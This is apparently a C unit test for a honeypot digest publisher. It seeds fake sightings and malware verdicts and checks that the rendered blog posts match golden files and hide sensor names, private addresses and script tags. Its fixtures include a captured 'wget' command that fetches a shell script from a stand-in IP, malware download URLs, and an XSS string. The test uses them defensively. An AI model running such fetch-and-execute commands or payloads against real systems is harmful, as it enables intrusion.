/*
 * test_digest_post.c - whole digests against golden files, in both languages.
 *
 * SPDX-License-Identifier: MIT
 */
#include "common/base/calendar.h"
#include "publisher/posts/digest/digest.h"
#include "tests/unit/golden.h"
#include "tests/unit/with_db.h"

#define DAY 86400
#define HOUR 3600
#define MIDNIGHT 1795219200 /* 21 November 2026 00:00 UTC, a Saturday */

static struct err e;
static struct gate *gate;

/* ---- what happened */

static void
capture(int sample, const char *ip, const char *url, int64_t at)
{
	static int n;

	sql("INSERT INTO sighting (event_key, sample_id, source, profile, honeypot, "
	    "action, src_ip, src_country, url, event_at, collected_at, seen_at) "
	    "VALUES ('1-%d', %d, 'main', 'cowrie', 'Cowrie', 'download', '%s', 'NL', "
	    "%s%s%s, %lld, %lld, %lld)",
	    n++, sample, ip, url[0] != '\0' ? "'" : "NULL", url,
	    url[0] != '\0' ? "'" : "", (long long)at, (long long)at + 30, (long long)at);
}

static void
answer(int sample, const char *verdict, const char *family, int malicious)
{
	sql("INSERT INTO analysis (lookup_id, sample_id, fetched_at, outcome, verdict, "
	    "family, malicious, undetected, last_analysis_at) SELECT id, %d, %d, '%s', "
	    "'%s', nullif('%s', ''), %d, %d, nullif(%d, 0) FROM lookup WHERE sample_id = "
	    "%d",
	    sample, MIDNIGHT + HOUR * sample,
	    strcmp(verdict, "unknown") == 0 ? "not_found" : "found", verdict, family,
	    malicious, strcmp(verdict, "unknown") == 0 ? 0 : 72 - malicious,
	    strcmp(verdict, "unknown") == 0 ? 0 : MIDNIGHT - DAY, sample);
}

static void
post(int sample)
{
	sql("UPDATE post SET state = 'done', token = token + 1, link = "
	    "'https://blog.example/malware-%d/', sent_title = 'Mirai trojan of my-sensor & "
	    "[gallery] · %d', wp_id = %d WHERE sample_id = %d",
	    sample, sample, sample, sample);
}

static void
count(const char *dimension, const char *value, const char *label, int64_t events,
    int64_t sources)
{
	sql("INSERT INTO day_count SELECT max(id), '%s', '%s', nullif('%s', ''), %lld, "
	    "%lld FROM day",
	    dimension, value, label, (long long)events, (long long)sources);
}

/* The days of November, each counted at six in the morning after. */
static void
count_day(int date, int64_t events)
{
	int64_t from = MIDNIGHT + (date - 21) * DAY;

	sql("INSERT INTO day (source, date, zone, from_at, to_at, look_at, counted_at, "
	    "complete, events, sources, loudest) VALUES ('main', '2026-11-%02d', 'UTC', "
	    "%lld, %lld, 0, %lld, 1, %lld, %lld, %lld)",
	    date, (long long)from, (long long)from + DAY,
	    (long long)from + DAY + 6 * HOUR, (long long)events, (long long)events / 14,
	    (long long)events / 9);
}

static void
count_values(int64_t events)
{
	static const char *const HONEYPOTS[] = { "Cowrie", "Honeytrap", "Dionaea",
		"Sentrypeer", "Heralding", "H0neytr4p", "Tanner", "Redishoneypot",
		"Adbhoney", "Ciscoasa", "Mailoney", "ElasticPot" };
	static const char *const PORTS[] = { "445", "5060", "22", "5900", "80", "443" };
	static const char *const COUNTRIES[] = { "US", "CN", "VN", "BR", "TW", "ZZ" };
	char hour[4];

	for (int i = 0; i < 12; i++)
		count("honeypot", HONEYPOTS[i], "", events / (i + 2),
		    events / 15 / (i + 1));
	for (int i = 0; i < 6; i++)
		count("port", PORTS[i], "", events / (i + 3), events / 20);
	for (int i = 0; i < 6; i++)
		count("country", COUNTRIES[i], "", events / (i + 3), 812 / (i + 1));
	for (int i = 0; i < 24; i++) {
		snprintf(hour, sizeof hour, "%02d", i);
		count("hour", hour, "", events / 24 + (i == 14 ? 4000 : i), 0);
	}
	count("hour", "14 Cowrie", "", 5200, 0);
	count("hour", "14 Dionaea", "", 600, 0);
	count("hour", "03 Honeytrap", "", 2000, 0);
	count("asn", "64500", "Example Hosting <b>", events / 3, 100);
}

static void
count_texts(void)
{
	count("user", "root", "", 900, 200);
	count("user", "admin-of-my-sensor", "", 80, 5);
	count("user", "the-operator", "", 70, 4);
	count("password", "123456", "", 212, 60);
	count("password", "[gallery] <script>alert(1)</script>", "", 145, 50);
	count("password", "http://203.0.113.10/x", "", 40, 6);
	count("command", "cd /tmp; wget http://198.51.100.66/x.sh", "", 118, 30);
	count("command", "echo secret of one victim", "", 300, 1);
	count("cve", "CVE-2021-44228", "", 31, 9);
	count("signature", "ET SCAN Suspicious inbound to MSSQL port 1433", "", 55, 20);
}

/* A week in which nothing is missing, its last days with files. */
static void
fill(void)
{
	db_fresh();
	for (int i = 1; i <= 12; i++)
		sql("INSERT INTO sample (sha256) VALUES ('%064x')", i);
	for (int i = 1; i <= 9; i++)
		for (int n = 0; n < 3 + i % 4; n++)
			capture(i, "198.51.100.23",
			    i < 4    ? "http://198.51.100.66/bins/x.arm7"
			    : i == 4 ? "http://203.0.113.10:8080/wget.sh"
				     : "",
			    MIDNIGHT + i * HOUR + n);
	capture(10, "198.51.100.23", "", MIDNIGHT - 3 * DAY);
	capture(10, "198.51.100.23", "", MIDNIGHT + 5 * HOUR);
	for (int i = 1; i <= 3; i++)
		answer(i, "malicious", "mirai", 40 + i);
	answer(4, "malicious", "", 9);
	answer(5, "unknown", "", 0);
	answer(6, "suspicious", "", 3);
	answer(10, "malicious", "gafgyt", 44);
	sql("UPDATE lookup SET state = 'skipped' WHERE sample_id = 7");
	post(2);
	post(5);
	for (int date = 9; date <= 22; date++) {
		count_day(date, 50000 + date * (date == 21 ? 900 : 300));
		count_values(50000 + date * (date == 21 ? 900 : 300));
		count_texts();
	}
	sql("INSERT INTO quota (provider, account, period, used, allowed) VALUES ('virustotal', 'main', '2026-11-21', 31, 500), "
	    "('virustotal', 'main', '2026-11-20', 500, 500), ('virustotal', 'main', "
	    "'2026-11', 531, 15500)");
	sql("INSERT INTO post (kind, key, slug, link) VALUES ('digest', "
	    "'day-2026-11-20', 'digest-day-2026-11-20', "
	    "'https://blog.example/digest-day-2026-11-20/')");
}

/* The same without the counts of the day. */
static void
fill_not_counted(void)
{
	fill();
	sql("DELETE FROM day");
	sql("INSERT INTO day (source, date, zone, from_at, to_at, look_at) VALUES ('main', "
	    "'2026-11-21', 'UTC', %d, %d, 0)",
	    MIDNIGHT, MIDNIGHT + DAY);
	sql("DELETE FROM quota");
}

/* A day without files, quieter than those before. */
static void
fill_quiet(void)
{
	fill();
	sql("DELETE FROM sample WHERE id <> 10");
	sql("DELETE FROM sighting WHERE seen_at >= %d", MIDNIGHT);
	sql("UPDATE day SET events = 1200, sources = 80, loudest = 700 WHERE date = "
	    "'2026-11-21'");
}

/* Counting began at 14:20, and only one file came, once. */
static void
fill_first(void)
{
	db_fresh();
	sql("INSERT INTO cursor (source, index_name, index_uuid, shard, position, "
	    "checkpoint, checkpoint_at, settled_at, start_at, start_until) VALUES ('main', "
	    "'logstash', '', -1, -1, -1, 0, 0, %d, -1)",
	    MIDNIGHT + 14 * HOUR + 20 * 60);
	sql("INSERT INTO sample (sha256) VALUES ('%064x')", 1);
	capture(1, "198.51.100.23", "", MIDNIGHT + 15 * HOUR);
	answer(1, "malicious", "mirai", 44);
}

static void
become_flood(const char *kind, const char *honeypot, const char *value)
{
	sql("INSERT INTO flood_count (source, date, kind, honeypot, value, files, skipped, "
	    "first_at, last_at) VALUES ('main', '2026-11-21', '%s', '%s', '%s', 51, 1, %d, "
	    "%d)",
	    kind, honeypot, value, MIDNIGHT, MIDNIGHT + DAY);
}

/* Someone fetches an innocent shop through a honeypot, over and over; other files come too. */
static void
fill_flood(void)
{
	fill();
	sql("DELETE FROM sighting WHERE sample_id > 4");
	for (int i = 20; i < 26; i++) {
		sql("INSERT INTO sample (id, sha256) VALUES (%d, '%064x')", i, i);
		capture(i, "198.51.100.99", "", MIDNIGHT + 20 * HOUR + i);
		sql("UPDATE sighting SET url = 'http://shop.example/?item=%d' WHERE sample_id = "
		    "%d",
		    i, i);
	}
	sql("UPDATE lookup SET state = 'skipped' WHERE sample_id > 22");
	become_flood("url", "", "http://shop.example/");
}

/* The same, a session that fetches from many hosts, and an address that does so without a session. */
static void
fill_floods(void)
{
	fill_flood();
	capture(11, "198.51.100.98", "http://mirror.example/a", MIDNIGHT + 21 * HOUR);
	capture(12, "198.51.100.98", "http://mirror.example/b", MIDNIGHT + 21 * HOUR);
	sql("UPDATE sighting SET session = 's1' WHERE sample_id = 11");
	become_flood("session", "Cowrie", "s1");
	become_flood("session", "Cowrie", "198.51.100.98");
	sql("INSERT INTO kept (sample_id, day_at, honeypot, action, src_country, protocol, url, "
	    "file_name, seen_at, collected_at, captures, sources) VALUES (20, %d, 'Cowrie', "
	    "'download', '', '', 'http://shop.example/?item=kept', '', %d, %d, 9, 1)",
	    MIDNIGHT, MIDNIGHT + HOUR, MIDNIGHT + HOUR);
}

/* There is nothing else. */
static void
fill_only_flood(void)
{
	fill_flood();
	sql("DELETE FROM sighting WHERE sample_id < 20");
}

/* ---- the cases */

static const struct {
	const char *name, *key, *zone;
	void (*fill)(void);
	int64_t from_at, to_at;
} CASES[] = {
	{ "digest-day", "day-2026-11-21", "UTC", fill, MIDNIGHT, MIDNIGHT + DAY },
	{ "digest-not-counted", "day-2026-11-21", "UTC", fill_not_counted, MIDNIGHT,
	    MIDNIGHT + DAY },
	{ "digest-quiet", "day-2026-11-21", "UTC", fill_quiet, MIDNIGHT, MIDNIGHT + DAY },
	{ "digest-first", "day-2026-11-21", "UTC", fill_first, MIDNIGHT, MIDNIGHT + DAY },
	{ "digest-floods", "day-2026-11-21", "UTC", fill_floods, MIDNIGHT,
	    MIDNIGHT + DAY },
	{ "digest-only-flood", "day-2026-11-21", "UTC", fill_only_flood, MIDNIGHT,
	    MIDNIGHT + DAY },
	{ "digest-new-zone", "day-2026-11-21", "Asia/Tokyo", fill, MIDNIGHT,
	    MIDNIGHT + 15 * HOUR },
	{ "digest-week", "week-2026-W47", "UTC", fill, MIDNIGHT - 5 * DAY,
	    MIDNIGHT + 2 * DAY },
	{ "digest-month", "month-2026-11", "UTC", fill, MIDNIGHT - 20 * DAY,
	    MIDNIGHT + 10 * DAY },
};

static void
check_honesty(const struct article *a, const char *name)
{
	static const char *const NEVER[] = { "0/0", "harmless", "clean", "benign",
		"203.0.113", "203[.]0[.]113[.]10", "my-sensor", "http://", "[gallery]",
		"<script", "the-operator", "one victim", "shop", "mirror" };
	const char *texts[] = { a->title, a->excerpt, a->content };
	char words[128];

	for (size_t t = 0; t < 3; t++)
		for (size_t i = 0; i < sizeof NEVER / sizeof NEVER[0]; i++) {
			if (strstr(texts[t], NEVER[i]) == NULL)
				continue;
			snprintf(words, sizeof words, "%s says %s", name, NEVER[i]);
			ok(false, words);
		}
	ok(strncmp(a->content, "<!-- wp:group", 13) == 0, "it begins with the banner");
	ok(strpbrk(a->title, "0123456789") != NULL && strstr(a->title, "\u00a0") == NULL,
	    "its title has a date, and plain blanks");
}

/* As after an upload. */
static void
place_pictures(const void *facts, const struct post_options *o, struct article *a)
{
	if (!ok(post_kind_digest.draw(facts, o, a, &e), "its pictures are drawn"))
		die(e.text);
	for (size_t i = 0; i < a->picture_count; i++)
		BUF_FIXED(a->pictures[i].url,
		    "https://blog.example/wp-content/uploads/2026/11/%s.png",
		    a->pictures[i].role);
}

static void
check_case(size_t n, enum language language)
{
	const struct post_options options = { .language = language,
		.timezone = CASES[n].zone,
		.charts = true,
		.map = true };
	char key[64];
	struct post_row row = {
		.key = key, .from_at = CASES[n].from_at, .to_at = CASES[n].to_at
	};
	struct article a = { .title = NULL };
	void *facts;

	snprintf(key, sizeof key, "%s", CASES[n].key);
	CASES[n].fill();
	facts = post_kind_digest.load(&db, &row, &options, 0, &e);
	if (facts == NULL)
		die(e.text);
	place_pictures(facts, &options, &a);
	if (ok(post_kind_digest.render(facts, &options, gate, &a, &e), CASES[n].name)) {
		golden_compare(CASES[n].name, language == LANGUAGE_EN ? "en" : "ja", &a);
		check_honesty(&a, CASES[n].name);
	}
	post_kind_digest.release(facts);
	article_done(&a);
}

static void
add_clock(const char *sensor, int early, int64_t delay)
{
	sql("INSERT INTO sensor_clock (source, date, sensor, documents, early, least, most, first_at, last_at, usual) "
	    "VALUES ('main', '2026-11-21', '%s', 20, %d, %lld, %lld, 0, 40000, 1500)",
	    sensor, early, (long long)delay, (long long)delay);
}

static void
test_clocks(void)
{
	char name[] = "my-sensor: Tokyo", *items[] = { name };
	const struct list names = { .items = items, .count = 1 };
	const struct post_options options = { .timezone = "UTC", .sensor_names = &names };
	char key[] = "day-2026-11-21";
	struct post_row row = {
		.key = key, .from_at = MIDNIGHT, .to_at = MIDNIGHT + DAY
	};
	struct article a = { .title = NULL };
	void *facts;

	fill();
	add_clock("my-sensor", 20, -3 * HOUR);
	add_clock("hive-two", 0, 40 * 60);
	add_clock("hive-three", 0, 5);
	facts = post_kind_digest.load(&db, &row, &options, 0, &e);
	if (facts == NULL || !post_kind_digest.render(facts, &options, gate, &a, &e))
		die(e.text);
	ok(strstr(a.content,
	       "The clock of Tokyo was about 3 hours ahead; the times of") != NULL,
	    "a sensor with a public name is named, with its offset");
	ok(strstr(a.content, "The clock of a sensor was about 40 minutes behind;") !=
		NULL,
	    "one without is not");
	ok(strstr(a.content, "hive") == NULL && strstr(a.content, "my-sensor") == NULL,
	    "its own name never appears");
	post_kind_digest.release(facts);
	article_done(&a);
}

static void
test_a_row_without_a_period(void)
{
	const struct post_options options = { .timezone = "UTC" };
	char day[] = "day-2026-11-21", other[] = "weekly";
	struct post_row row = { .key = day }, odd = { .key = other, .to_at = 1 };

	ok(post_kind_digest.load(&db, &row, &options, 0, &e) == NULL &&
		e.fault == FAULT_REJECT,
	    "a row without its times is held");
	err_clear(&e);
	ok(post_kind_digest.load(&db, &odd, &options, 0, &e) == NULL &&
		e.fault == FAULT_REJECT,
	    "... and one whose key names no period");
}

int
main(void)
{
	db_directory_make();
	gate = gate_new(&e);
	gate_add(gate, "203.0.113.10", &e);
	gate_add(gate, "my-sensor", &e);
	for (size_t n = 0; n < sizeof CASES / sizeof CASES[0]; n++)
		for (int language = 0; language < LANGUAGE_COUNT; language++)
			check_case(n, (enum language)language);
	test_clocks();
	test_a_row_without_a_period();
	gate_free(gate);
	db_directory_remove();
	return done_testing();
}
